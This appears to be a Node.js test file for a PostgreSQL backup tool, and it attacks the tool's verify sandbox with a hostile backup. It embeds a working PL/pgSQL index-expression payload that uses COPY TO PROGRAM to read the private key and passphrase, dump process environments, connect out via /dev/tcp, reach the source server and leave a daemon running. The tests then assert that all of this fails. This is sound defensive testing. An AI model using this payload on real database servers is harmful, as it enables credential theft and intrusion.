import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, copyFileSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { type Server, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, test } from 'node:test';
import { findPgProgram } from '../../postgres/binaries.js';
import { SANDBOX_OS_USER } from '../../postgres/sandbox.js';
import { type ThrowawayCluster, startThrowawayCluster } from '../../postgres/throwaway-cluster.js';
import { type ArchiveFixture, createArchiveFixture } from '../../testing/archive-fixture.js';
import { type CliResult, runCli } from '../../testing/run-cli.js';
import { archiveCommand } from '../restore/pitr/recovery-settings.js';

/**
 * Attack tests of verify's sandbox (docs/architecture.md, "Verify's sandbox"). The backups are
 * made by pms-backup itself from a source database that carries a hostile function in an index
 * expression, so they are as genuine as any other backup. The function runs, as the
 * throwaway server's superuser, when pg_restore builds the index (logical verify) and when
 * amcheck checks it (both verifies), and tries everything the review's attack did and more:
 * read the private key and its passphrase, dump the environment of every process it can see,
 * open TCP connections out, reach the source server, stay behind after verify. It writes what
 * it got into a directory the test reads. While it runs, the test tries to connect to the
 * throwaway server as other OS users and over TCP.
 */
const PASSPHRASE = `sandbox-passphrase-${randomBytes(6).toString('hex')}`;
const AWS_SECRET = `aws-secret-${randomBytes(6).toString('hex')}`;
const POSTGRES_PASSWORD = `pg-password-${randomBytes(6).toString('hex')}`;
const DAEMON_SECONDS = `3000.${Math.floor(Math.random() * 1e6)}`;

let fixture: ArchiveFixture;
let source: ThrowawayCluster;
let findings: string;
let env: Record<string, string>;
let listener: Server;
let listenerPort: number;
let connectionsToListener = 0;
let sandboxUid: number;

const cli = (args: string[], extra: Record<string, string> = {}): Promise<CliResult> =>
  runCli('pms-backup', args, { ...source.postgresEnv, ...env, ...extra });

/**
 * The hostile function. Each attempt's outcome lands in <findings>/<run>-<what>.txt, where run
 * tells the throwaway servers apart; "{run}" in a shell command is replaced by it.
 */
function hostileSql(): string {
  const keyFile = fixture.env['BACKUP_GPG_PRIVATE_KEY_FILE']!;
  const passFile = fixture.env['BACKUP_GPG_PASSPHRASE_FILE']!;
  const psql = findPgProgram('psql');
  const out = (what: string) => `${findings}/{run}-${what}.txt`;
  const sh = (template: string) => `BEGIN
      EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', pg_catalog.replace(${lit(template)}, '{run}', run));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;`;
  const save = (what: string, expression: string) => `BEGIN
      EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', ${expression}, dir || '/' || run || '-${what}.txt');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;`;
  const tryRead = (what: string, path: string) => `BEGIN
      got := pg_catalog.pg_read_file(${lit(path)});
    EXCEPTION WHEN OTHERS THEN got := 'denied: ' || SQLERRM;
    END;
    ${save(what, 'got')}`;
  const reach = (conninfo: string) => `${psql} -X -Atc "SELECT 'reached ' || current_database()" "${conninfo} connect_timeout=5"`;
  return `
CREATE TABLE public.reading (id int PRIMARY KEY, value int NOT NULL);
INSERT INTO public.reading SELECT g, g FROM pg_catalog.generate_series(1, 50) g;
-- COPY is refused inside a non-volatile function, so the index's function calls a volatile one.
CREATE FUNCTION public.attack(value int) RETURNS int LANGUAGE plpgsql VOLATILE AS $fn$
DECLARE
  dir text := ${lit(findings)};
  run text;
  got text;
BEGIN
  -- Harmless where the backup is made; active anywhere else (the throwaway servers).
  IF value <> 1 OR pg_catalog.current_setting('data_directory') = ${lit(source.dataDir)} THEN RETURN value; END IF;
  run := pg_catalog.substr(pg_catalog.md5(pg_catalog.current_setting('data_directory')), 1, 10);
  ${sh(`id > ${out('id')}`)}
  ${tryRead('key', keyFile)}
  ${tryRead('passphrase', passFile)}
  ${sh(`cat ${keyFile} ${passFile} > ${out('copied-key')} 2>&1`)}
  ${sh(`env > ${out('env')}`)}
  ${sh(`ls /proc > ${out('pids')}; for f in /proc/[0-9]*/environ; do cat "$f"; echo; done > ${out('environs')} 2>/dev/null; true`)}
  ${sh(`bash -c 'echo leak > /dev/tcp/127.0.0.1/${listenerPort}' 2>/dev/null && echo connected > ${out('tcp')} || echo failed > ${out('tcp')}`)}
  ${sh(`${reach(`host=127.0.0.1 port=${source.port} user=postgres dbname=postgres`)} > ${out('source-tcp')} 2>&1; true`)}
  ${sh(`${reach(`host=${source.socketDir} port=${source.port} user=postgres dbname=postgres`)} > ${out('source-socket')} 2>&1; true`)}
  ${sh(`setsid sleep ${DAEMON_SECONDS} > /dev/null 2>&1 < /dev/null &`)}
  ${save('where', "pg_catalog.current_setting('unix_socket_directories') || ' ' || pg_catalog.current_setting('port') || ' [' || pg_catalog.current_setting('listen_addresses') || ']'")}
  -- Give the test time to knock on the door while the server runs.
  FOR i IN 1..600 LOOP
    EXIT WHEN (pg_catalog.pg_stat_file(dir || '/' || run || '-probed.txt', true)).size IS NOT NULL;
    PERFORM pg_catalog.pg_sleep(0.1);
  END LOOP;
  RETURN value;
END
$fn$;
CREATE FUNCTION public.hostile(value int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $fn$
BEGIN
  RETURN public.attack(value);
END
$fn$;
CREATE INDEX reading_hostile ON public.reading (public.hostile(value));
`;
}

function lit(text: string): string {
  return `'${text.replace(/'/g, "''")}'`;
}

/** One run of the hostile function: everything it managed to write. */
interface Run {
  readonly id: string;
  read(what: string): string;
}

function runsSoFar(): string[] {
  return readdirSync(findings)
    .map((f) => /^([0-9a-f]{10})-where\.txt$/.exec(f)?.[1])
    .filter((r): r is string => r !== undefined);
}

/**
 * Runs a verify and, while the hostile function waits inside the throwaway server, tries to
 * connect to that server as two other OS users (postgres, which owns the production cluster on
 * a database host, and nobody) and over TCP.
 */
async function verifyUnderAttack(args: string[]): Promise<{ result: CliResult; run: Run; knocks: string[] }> {
  const before = new Set(runsSoFar());
  const verifying = cli(args);
  let run: string | undefined;
  for (let i = 0; i < 1200 && run === undefined; i += 1) {
    run = runsSoFar().find((r) => !before.has(r));
    if (run === undefined) await sleep(100);
  }
  const knocks: string[] = [];
  if (run !== undefined) {
    const [socketDir, port] = readFileSync(join(findings, `${run}-where.txt`), 'utf8')
      .trim()
      .split(' ');
    const psql = findPgProgram('psql');
    const attempt = (label: string, args: string[], asUser?: string): void => {
      const command = asUser ? ['runuser', ['-u', asUser, '--', psql, ...args]] : [psql, args];
      const result = spawnSync(command[0] as string, command[1] as string[], {
        encoding: 'utf8',
        timeout: 20_000,
        env: { PATH: process.env['PATH'] },
      });
      knocks.push(`${label}: exit ${result.status}: ${(result.stdout + result.stderr).trim()}`);
    };
    const conninfo = (host: string) => `host=${host} port=${port} user=postgres dbname=postgres connect_timeout=5`;
    attempt('as postgres over the socket', ['-X', '-Atc', 'SELECT 1', conninfo(socketDir!)], 'postgres');
    attempt('as nobody over the socket', ['-X', '-Atc', 'SELECT 1', conninfo(socketDir!)], 'nobody');
    attempt('over TCP', ['-X', '-Atc', 'SELECT 1', conninfo('127.0.0.1')]);
    writeFileSync(join(findings, `${run}-probed.txt`), 'done\n');
  }
  const result = await verifying;
  assert.ok(run !== undefined, `the hostile function never ran in the throwaway server: ${result.stdout}\n${result.stderr}`);
  const id = run;
  return {
    result,
    knocks,
    run: {
      id,
      read: (what) => {
        const file = join(findings, `${id}-${what}.txt`);
        return existsSync(file) ? readFileSync(file, 'utf8') : '(nothing)';
      },
    },
  };
}

/** What every run must show: the code ran as the sandbox user and got nothing of ours. */
function assertGotNothing(run: Run, knocks: string[]): void {
  assert.match(run.read('id'), new RegExp(`^uid=${sandboxUid}\\(${SANDBOX_OS_USER}\\)`), 'ran as the sandbox user');
  assert.match(run.read('key'), /^denied: could not open file .*Permission denied/, 'private key unreadable');
  assert.match(run.read('passphrase'), /^denied: could not open file .*Permission denied/, 'passphrase unreadable');
  assert.match(run.read('copied-key'), /Permission denied/, 'cat of the key file failed');
  assert.ok(!run.read('copied-key').includes('PGP PRIVATE KEY') && !run.read('copied-key').includes(PASSPHRASE));

  const names = run
    .read('env')
    .split('\n')
    .filter(Boolean)
    .map((line) => line.slice(0, line.indexOf('=')));
  const expected =
    /^(PATH|LANG|LANGUAGE|LC_\w+|TZ|TMPDIR|HOME|USER|LOGNAME|SHELL|PWD|SHLVL|_|PGDATA|PG_GRANDPARENT_PID|PGSYSCONFDIR|PGLOCALEDIR)$/;
  assert.deepEqual(
    names.filter((n) => !expected.test(n)),
    [],
    `the server's environment holds only the allowlist and what runuser and PostgreSQL set: ${names.join(', ')}`,
  );
  const everything = ['env', 'environs', 'pids', 'id'].map((w) => run.read(w)).join('\n');
  for (const secret of [PASSPHRASE, AWS_SECRET, POSTGRES_PASSWORD, 'BACKUP_GPG', 'BACKUP_REPOSITORY', 'AWS_', 'POSTGRES_PASSWORD']) {
    assert.ok(!everything.includes(secret), `${secret} is nowhere the restored code can see`);
  }
  const pids = run
    .read('pids')
    .split('\n')
    .filter((l) => /^\d+$/.test(l));
  assert.ok(pids.length > 0 && pids.length < 40, `its own PID namespace: only the sandbox's processes are visible (${pids.length})`);

  assert.equal(run.read('tcp').trim(), 'failed', 'no TCP connection out');
  assert.doesNotMatch(run.read('source-tcp'), /reached/, 'the source server is unreachable over TCP');
  assert.doesNotMatch(run.read('source-socket'), /reached/, "the source server's socket is unreachable");
  assert.equal(knocks.length, 3);
  for (const knock of knocks) assert.match(knock, /exit 2: psql: error: /, knock);
  assert.match(knocks[0]!, /Permission denied/, 'postgres cannot reach the 0700 socket directory');
  assert.match(knocks[1]!, /Permission denied/, 'nobody cannot reach the 0700 socket directory');
  assert.match(knocks[2]!, /Connection refused/, 'nothing listens on TCP');
  assert.match(run.read('where'), /^\/\S+ \d+ \[\]\n?$/, 'Unix socket only, listen_addresses empty');
}

function assertNothingStayedBehind(): void {
  const left = spawnSync('pgrep', ['-f', `sleep ${DAEMON_SECONDS}`], { encoding: 'utf8' });
  assert.equal(left.stdout.trim(), '', 'the daemon the restored code started died with the sandbox');
  assert.equal(connectionsToListener, 0, 'nothing connected to the TCP listener');
}

before(async () => {
  assert.equal(process.getuid?.(), 0, 'the sandbox as root: run as root');
  sandboxUid = Number(execFileSync('id', ['-u', SANDBOX_OS_USER]).toString().trim());
  fixture = await createArchiveFixture('sandbox', { passphrase: PASSPHRASE });
  findings = mkdtempSync(join(tmpdir(), 'pms-findings-'));
  chmodSync(findings, 0o777);
  listener = createServer((socket) => {
    connectionsToListener += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  listenerPort = (listener.address() as { port: number }).port;
  env = {
    ...fixture.env,
    POSTGRES_DB: 'clinic',
    // Credentials of the kinds a verify pod has, to prove none reaches the server.
    AWS_SECRET_ACCESS_KEY: AWS_SECRET,
    AWS_ACCESS_KEY_ID: 'AKIAPMSSANDBOXTEST',
    POSTGRES_PASSWORD,
  };
  source = await startThrowawayCluster({
    settings: { archive_mode: 'on', wal_level: 'replica', archive_command: archiveCommand() },
    serverEnv: fixture.env,
  });
  await source.psql('CREATE DATABASE clinic');
  await source.psql(hostileSql(), 'clinic');
});

after(async () => {
  listener?.close();
  await source?.destroy();
  fixture?.remove();
  if (findings) rmSync(findings, { recursive: true, force: true });
});

describe("verify's sandbox holds against a hostile backup", () => {
  test('logical: code restored by pg_restore reads no key, passphrase, credential or environment, reaches no network, and verify still reports', {
    timeout: 300_000,
  }, async () => {
    const created = await cli(['create', '--json']);
    assert.equal(created.code, 0, created.stderr);
    const { result, run, knocks } = await verifyUnderAttack(['verify', 'latest', '--json']);
    assert.equal(result.code, 0, `${result.stdout}\n${result.stderr}`);
    const report = JSON.parse(result.stdout) as { ok: boolean; checks: Array<{ name: string; ok: boolean; detail: string }> };
    assert.equal(report.ok, true);
    const sandbox = report.checks.find((c) => c.name === 'sandbox');
    assert.match(
      sandbox?.detail ?? '',
      new RegExp(`^PostgreSQL ran as OS user ${SANDBOX_OS_USER} \\(uid ${sandboxUid}\\), in its own network, PID and mount namespaces`),
    );
    assert.ok(report.checks.some((c) => c.name === 'row-counts' && c.ok));
    assertGotNothing(run, knocks);
    assertNothingStayedBehind();
  });

  test('base backup: the recovered server gets its WAL from pms-backup, not the key; code run by amcheck gets nothing', {
    timeout: 600_000,
  }, async () => {
    const base = await cli(['base-backup', '--json']);
    assert.equal(base.code, 0, base.stderr);
    const id = (JSON.parse(base.stdout) as { id: string }).id;
    const { result, run, knocks } = await verifyUnderAttack(['verify', id, '--json']);
    assert.equal(result.code, 0, `${result.stdout}\n${result.stderr}`);
    const report = JSON.parse(result.stdout) as { ok: boolean; checks: Array<{ name: string; ok: boolean; detail: string }> };
    assert.ok(report.checks.some((c) => c.name === 'wal-recovery' && c.ok));
    assert.match(report.checks.find((c) => c.name === 'sandbox')?.detail ?? '', /WAL handed over by pms-backup \([1-9]\d* file\(s\)\)/);
    assertGotNothing(run, knocks);
    assertNothingStayedBehind();
  });

  test('a private key the sandbox user could read makes verify refuse to start the server (PMS_ERR_CONFIG, no record)', async () => {
    const exposed = join(mkdtempSync(join(tmpdir(), 'pms-exposed-')), 'private.asc');
    chmodSync(join(exposed, '..'), 0o755);
    copyFileSync(fixture.env['BACKUP_GPG_PRIVATE_KEY_FILE']!, exposed);
    chmodSync(exposed, 0o644);
    try {
      const before = readdirSync(fixture.repoRoot, { recursive: true })
        .map(String)
        .filter((f) => f.includes('verification-'));
      const result = await cli(['verify', 'latest'], { BACKUP_GPG_PRIVATE_KEY_FILE: exposed });
      assert.equal(result.code, 2, `${result.stdout}\n${result.stderr}`);
      assert.match(
        result.stderr,
        new RegExp(
          `PMS_ERR_CONFIG: refusing to start the throwaway PostgreSQL: ${exposed.replace(/[.]/g, '\\.')} can be read by the OS user ${SANDBOX_OS_USER}`,
        ),
      );
      const after = readdirSync(fixture.repoRoot, { recursive: true })
        .map(String)
        .filter((f) => f.includes('verification-'));
      assert.deepEqual(after, before, 'no verification record for a verification that did not run');
      assert.equal(statSync(exposed).mode & 0o777, 0o644);
    } finally {
      rmSync(join(exposed, '..'), { recursive: true, force: true });
    }
  });

  test('without root the server would run as pms-backup itself: a secret file pms-backup can read is refused, one it cannot is not', () => {
    const dir = mkdtempSync(join(tmpdir(), 'pms-nonroot-'));
    chmodSync(dir, 0o755);
    const readable = join(dir, 'readable-key');
    const unreadable = join(dir, 'unreadable-key');
    writeFileSync(readable, 'secret', { mode: 0o644 });
    writeFileSync(unreadable, 'secret', { mode: 0o600 });
    const module = new URL('../../postgres/sandbox.js', import.meta.url).href;
    const script = `const m = await import(${JSON.stringify(module)});
      const id = await m.sandboxIdentity();
      for (const files of [[${JSON.stringify(unreadable)}], [${JSON.stringify(readable)}, ${JSON.stringify(unreadable)}]])
        await m.refuseReadableSecrets(id, files).then(() => console.log('started'), (e) => console.log(e.code + ' ' + e.message));`;
    try {
      const result = spawnSync('runuser', ['-u', 'nobody', '--', process.execPath, '--input-type=module', '-e', script], {
        encoding: 'utf8',
        cwd: '/',
        env: { PATH: process.env['PATH'] },
      });
      const [first, second] = result.stdout.trim().split('\n');
      assert.equal(first, 'started', result.stderr);
      assert.match(
        second ?? '',
        new RegExp(
          `^PMS_ERR_CONFIG refusing to start the throwaway PostgreSQL: ${readable} can be read by pms-backup's own OS user nobody \\(uid 65534; pms-backup is not root`,
        ),
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
